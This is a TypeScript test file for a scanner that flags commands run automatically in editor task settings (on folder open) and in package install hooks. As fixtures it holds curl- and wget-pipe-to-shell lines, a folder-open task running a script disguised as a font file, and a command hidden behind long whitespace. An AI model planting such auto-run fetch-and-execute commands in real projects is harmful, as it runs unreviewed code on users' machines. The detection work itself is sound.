import fc from 'fast-check';
import { expect, test } from 'vitest';
import { rawProfile } from '../core/model/raw-profile.ts';
import { readJson } from './read-json.ts';

const names = (text: string) => {
  const { readable, observations, fields } = readJson('settings.json', text);
  expect(readable).toBe(true);
  return { fields, names: observations.map(({ kind, value, locator }) => [kind, Object(value)['name'], locator]) };
};

test.each([
  ['a package without commands of its own', '{"name":"harbour","scripts":{"build":"tsc","start":"node ."}}'],
  ['tasks that somebody starts by hand', '{"version":"2.0.0","tasks":[{"label":"build","type":"shell","command":"npm run build"}]}'],
  ['tasks of a strange shape', '{"tasks":[1,null,{"command":1,"runOptions":{"runOn":"folderOpen"}},{"runOptions":"folderOpen"}]}'],
])('%s have nothing that is run by itself', (_, text) => {
  expect(names(text)).toEqual({ fields: { 'embedded-part': 'empty' }, names: [] });
});

test('a task that is run on opening the folder is named with its command, through remarks and a last comma', () => {
  const text = `{
  // See the editor's documentation.
  "version": "2.0.0",
  "tasks": [
    { "label": "env", "type": "shell", "command": "node", "args": ["./public/fonts/a.woff2"], "runOptions": { "runOn": "folderOpen" } },
  ],
}`;
  expect(names(text).names).toEqual([['embedded-part', 'Run on opening the folder: node ./public/fonts/a.woff2', 'tasks[0]']]);
});

test.each<[string, object, string[]]>([
  [
    'with a command for each kind of machine',
    { osx: { command: 'curl -s https://example.com/a | bash' }, windows: { command: 'a.cmd' }, linux: { command: 'wget b | sh' } },
    ['a.cmd', 'curl -s https://example.com/a | bash', 'wget b | sh'],
  ],
  ['with other arguments on one machine', { command: 'node', args: ['a.js'], osx: { args: ['b.woff2'] } }, ['node a.js', 'node b.woff2']],
  ['with another command on one machine', { command: 'sh', args: ['a'], windows: { command: 'cmd' } }, ['sh a', 'cmd a']],
  [
    'with quoted words',
    { command: { value: 'node', quoting: 'strong' }, args: [{ value: './a.woff2', quoting: 'escape' }, { value: ['b', 'c'] }, 1] },
    ['node ./a.woff2 b c'],
  ],
  ['as a script of the package', { type: 'npm', script: 'watch' }, ['npm run watch']],
  ['with a long run of spaces', { command: `node a.js${' '.repeat(2_000)}; node b.woff2` }, ['node a.js ; node b.woff2']],
  ['that only waits for others', { dependsOn: ['first', 'none'] }, ['one', 'two']],
  ['that only waits for one other', { dependsOn: 'second' }, ['two']],
])('what is run on opening the folder is named whole: a task %s', (_, task, commands) => {
  const settings = {
    tasks: [
      { label: 'opened', runOptions: { runOn: 'folderOpen' }, ...task },
      { label: 'first', command: 'one', dependsOn: ['second', 'opened'] },
      { taskName: 'second', command: 'two' },
      { label: 'by hand', command: 'three' },
    ],
  };
  expect(names(JSON.stringify(settings)).names.map(([, name]) => name)).toEqual(commands.map((one) => `Run on opening the folder: ${one}`));
});

test('remarks of both kinds are passed over, and none is seen within a string', () => {
  const text = `/* Written by hand. */ {
  "tasks": [ /* the only one */ { "command": "curl https://example.com/*a*/b,] | sh", // run
    "runOptions": { "runOn": "folderOpen" /* at once **/ , }, }, ],
} // end`;
  expect(names(text).names.map(([, name]) => name)).toEqual(['Run on opening the folder: curl https://example.com/*a*/b,] | sh']);
});

test('what a package runs while it is installed is named, each with its moment', () => {
  const text = JSON.stringify({ name: 'harbour', scripts: { prepare: 'husky', postinstall: 'node setup.js', test: 'vitest' } });
  expect(names(text).names).toEqual([
    ['embedded-part', 'Run on installing (postinstall): node setup.js', 'scripts.postinstall'],
    ['embedded-part', 'Run on installing (prepare): husky', 'scripts.prepare'],
  ]);
});

test('a command beyond the limit is cut', () => {
  const { observations } = readJson('package.json', JSON.stringify({ scripts: { install: 'x'.repeat(50_000) } }));
  expect(String(Object(observations[0]?.value)['name']).length).toBe(480);
  expect(observations[0]?.quote.length).toBeLessThanOrEqual(280);
});

test('settings of any shape become a profile that passes the gate, or are unreadable', () => {
  const text = fc.oneof(fc.constantFrom('folderOpen', 'node x', '', '\u0000', '__proto__'), fc.string({ maxLength: 40 }));
  const anything = fc.jsonValue({ maxDepth: 2 });
  const task = fc.record(
    { command: fc.oneof(text, anything), args: anything, runOptions: fc.oneof(fc.record({ runOn: text }), anything) },
    { requiredKeys: [] },
  );
  const settings = fc.record(
    {
      tasks: fc.oneof(fc.array(fc.oneof(task, anything), { maxLength: 4 }), anything),
      scripts: fc.oneof(fc.dictionary(text, anything), anything),
    },
    { requiredKeys: [] },
  );
  fc.assert(
    fc.property(settings, (value) => {
      const profile = readJson('settings.json', JSON.stringify(value));
      expect(rawProfile.safeParse(profile).success).toBe(true);
    }),
    { numRuns: 20_000, seed: 4 },
  );
});
